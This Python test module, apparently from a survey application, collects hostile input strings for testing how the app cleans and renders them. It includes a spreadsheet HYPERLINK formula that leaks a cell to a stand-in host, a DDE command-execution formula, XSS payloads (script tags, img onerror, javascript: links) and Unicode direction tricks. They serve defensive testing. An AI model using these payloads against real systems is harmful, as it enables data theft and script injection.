"""A corpus of hostile strings: what an attacker (or an unlucky colleague) types into a team
name, an area, a comment, a note, an action, a message to the organisation or a group name.

Every address points at its own host under `.example`, so a test can see whether the browser
tried to fetch it or made a link of it. Import: ``from hostile_strings import HOSTILE, ...``.
"""

from __future__ import annotations

from kringwijs_survey.core.settings import NAME_MAX
from kringwijs_survey.core.validation import clean_comment, clean_text

LONG_WORD = "Lang" + "woord" * 59 + "!"  # 300 characters without a space: must wrap, never overflow

# Strings whose danger is at the start of a line (a block in markdown, a formula in a spreadsheet).
STARTING = {
    "heading": "# Kop",
    "heading_2": "## Kop 2 ###",
    "list": "- a\n- b",
    "list_plus": "+ plus lijst",
    "ordered": "1. eerste\n2. tweede",
    "quote": "> citaat",
    "table": "| a | b |\n|---|---|\n| 1 | 2 |",
    "code_fence": "```python\nprint(1)\n```",
    "indented_code": "    vier spaties",
    "rule": "---",
    "formula": "=1+1",
    "formula_plus": "+31 6 12345678",
    "formula_minus": "-2+3",
    "formula_at": "@SUM(A1:A2)",
    "hyperlink": '=HYPERLINK("https://evil-xls.example/?leak="&B2,"Details")',
    "dde": "=cmd|' /C calc'!A0",
    "apostrophe_formula": "'=1+1",
    "apostrophes": "''=2+2",
    "apostrophe_text": "'gewoon",
    "tab_formula": "\t=1+1",
    "cr_formula": "\r=1+1",
}

# Strings that are dangerous anywhere in a text.
INLINE = {
    "markdown_link": "[Log opnieuw in](https://evil-link.example/login)",
    "markdown_image": "![p](https://evil-img.example/pixel.png)",
    "reference_link": "[x][r]\n\n[r]: https://evil-ref.example",
    "javascript_link": "[klik](javascript:alert(1))",
    "bare_url": "https://evil-url.example/pad?x=1&y=2",
    "www": "www.evil-www.example",
    "email": "ict@evil-mail.example",
    "autolink": "<https://evil-auto.example>",
    "mail_autolink": "<mailto:a@evil-automail.example>",
    "raw_html": "<b>vet</b> <i>schuin</i>",
    "img_onerror": '<img src="https://evil-onerror.example/x" onerror=alert(1)>',
    "script": "<script>alert(1)</script>",
    "iframe": '<iframe src="https://evil-frame.example"></iframe>',
    "entities": "&lt;b&gt; &amp; &copy; &#x41; &#65;",
    "material_icon": ":material/home: thuis",
    "emoji_shortcode": ":smile: :+1: :tada:",
    "arrows": "a -> b <- c <-> d => e",
    "dashes": "x -- y --- z ... (c) (tm)",
    "math": "$x^2$ en $$\\sum_i i$$",
    "money": "kost $5 en $6",
    "colour": ":red[rood] :blue-background[blauw] :rainbow[regen]",
    "emphasis": "**vet** __ook__ *schuin* _ook_ ~~weg~~",
    "inline_code": "`code` en \\*niet vet\\*",
    "directive": ":small[klein] :primary[prim]",
    "footnote": "tekst[^1]\n\n[^1]: https://evil-note.example",
    "rtl": "abc\u202edcba (rechts-naar-links)",
    "zero_width": "a\u200bb\u200dc\ufeffd\u2060e",
    "emoji": "👍🏽 👨‍👩‍👧 ❤️",
    "quotes": "\"dubbel\" 'enkel' `backtick`",
    "backslashes": "\\\\ \\n \\[geen link\\]",
    "long_word": LONG_WORD,
}

HOSTILE: dict[str, str] = {**STARTING, **INLINE}
# The STARTING strings that markdown reads as a block; in a name they must come first.
BLOCK_KEYS = ("heading", "heading_2", "list", "list_plus", "ordered", "quote", "table", "code_fence", "rule")


def as_name(text: str) -> str:
    """What the app stores when this is typed into a name field (team, area, group, owner):
    control and format characters gone, white space collapsed, cut to the field's length."""
    return " ".join(clean_text(text, max_length=len(text)).split())[:NAME_MAX].strip()


def stored_comment(text: str) -> str:
    """What the app stores for a comment, note or message to the organisation."""
    return clean_comment(text) or ""


def stored_line(text: str, limit: int = 500) -> str:
    """What the app stores for an action (one line)."""
    return clean_text(text, max_length=max(limit, len(text)))[:limit]


def packed_names(limit: int = NAME_MAX) -> list[str]:
    """The whole corpus in as few names as fit: each name starts with one of the STARTING
    strings (their danger is at the start), followed by INLINE strings while they fit."""
    starting = [as_name(STARTING[key])[:limit] for key in BLOCK_KEYS]
    inline = [as_name(text)[:limit] for key, text in HOSTILE.items() if key not in BLOCK_KEYS]
    names: list[str] = []
    for first in starting:
        name = first
        for text in [text for text in inline if len(name) + 1 + len(text) <= limit]:
            if len(name) + 1 + len(text) <= limit:
                name = f"{name} {text}"
                inline.remove(text)
        names.append(name)
    while inline:  # what did not fit behind a block start: names of their own, filled the same way
        name = inline.pop(0)
        for text in [text for text in inline if len(name) + 1 + len(text) <= limit]:
            if len(name) + 1 + len(text) <= limit:
                name = f"{name} {text}"
                inline.remove(text)
        names.append(name)
    return names
